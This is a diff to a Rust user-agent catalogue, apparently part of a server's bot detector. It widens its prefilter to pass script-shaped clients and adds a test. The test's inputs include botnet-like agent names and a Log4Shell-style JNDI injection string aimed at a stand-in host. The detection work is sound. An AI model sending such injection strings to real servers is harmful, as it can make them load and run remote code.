@@ -126,16 +126,17 @@ impl Catalogue {
     }
 
     /// Whether some agent's name, or the bot detector's needle, may be in
-    /// `user_agent`: false means `classify` finds no agent (the matcher's
-    /// pass, and its comparisons).
+    /// `user_agent`, or it has a script's shape (the detector's one rule
+    /// without a needle): false means `classify` finds no agent (the
+    /// matcher's pass, and its comparisons).
     pub fn may_match(&self, user_agent: &[u8]) -> bool {
-        self.matcher.may_match(user_agent)
+        self.matcher.may_match(user_agent) || crate::detector::script_shape(user_agent)
     }
 
     /// The same on less evidence ([`Matcher::may_match_roughly`]): true wherever
     /// `may_match` is; false means no agent names the client.
     pub fn may_match_roughly(&self, user_agent: &[u8]) -> bool {
-        self.matcher.may_match_roughly(user_agent)
+        self.matcher.may_match_roughly(user_agent) || crate::detector::script_shape(user_agent)
     }
 
     /// Every name of the agents' patterns, with its agent (index in
@@ -164,7 +165,8 @@ impl Catalogue {
         if let Some(p) = found.pattern {
             return Some(Classified { agent: Some(self.matchable[p]), token: None });
         }
-        if !found.needle {
+        // with no needle, only a script's shape can make a bot (see detector.rs)
+        if !found.needle && !crate::detector::script_shape(user_agent) {
             return None;
         }
         let bot = self.unknown_bot.and_then(|i| crate::detector::bot(user_agent).map(|b| (i, b.token)));
@@ -429,6 +431,19 @@ mod tests {
         let c = Catalogue::build(true, &[], &mut problems);
         assert!(problems.is_empty(), "{problems:?}");
         c
+    }
+
+    #[test]
+    fn the_prefilter_lets_through_every_user_agent_identify_names() {
+        // the module asks may_match_roughly first: a script's shape has no needle
+        let c = builtin();
+        for ua in ["Hakai/2.0", "Zeus", "Mozilla/5.0 (compatible; Crusader/1.0)", "Mozilla/5.0", "curl/8.5.0", "Rivetbot/1.0", "${jndi:ldap://x.example/a}"] {
+            let named = c.identify(ua.as_bytes()).and_then(|x| x.agent);
+            assert!(named.is_some(), "{ua}");
+            assert!(c.may_match(ua.as_bytes()) && c.may_match_roughly(ua.as_bytes()), "{ua}");
+        }
+        let browser = b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36";
+        assert!(!c.may_match_roughly(browser) && c.identify(browser).is_none());
     }
 
     #[test]
